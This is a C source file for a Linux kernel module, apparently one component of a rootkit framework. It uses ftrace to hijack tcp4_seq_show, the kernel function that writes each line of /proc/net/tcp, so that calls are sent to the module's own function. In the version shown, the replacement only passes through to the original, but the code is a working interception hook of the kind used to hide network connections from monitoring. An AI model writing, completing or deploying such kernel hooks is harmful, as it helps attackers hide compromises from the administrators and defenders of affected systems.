// SPDX-License-Identifier: GPL-2.0-only
/* Sends the function that shows a line of /proc/net/tcp through one of its own, with ftrace. */
#include <linux/ftrace.h>

#include "rk.h"

static unsigned long original;

static int show(void *seq, void *v)
{
	return ((int (*)(void *, void *))original)(seq, v);
}

static void notrace callback(unsigned long ip, unsigned long parent_ip, struct ftrace_ops *ops,
			     struct ftrace_regs *fregs)
{
	struct pt_regs *regs = ftrace_get_regs(fregs);

	/* Called by ourselves, it runs. */
	if (!regs || within_module(parent_ip, THIS_MODULE))
		return;
	original = ip;
	regs->ip = (unsigned long)show;
}

static struct ftrace_ops ops = {
	.func = callback,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY | FTRACE_OPS_FL_RECURSION,
};

static int on(void)
{
	char function[] = "tcp4_seq_show";
	int err = ftrace_set_filter(&ops, function, sizeof(function) - 1, 1);

	return err ? err : register_ftrace_function(&ops);
}

static void off(void)
{
	unregister_ftrace_function(&ops);
}

RK_MODULE(ftrace, on, off);
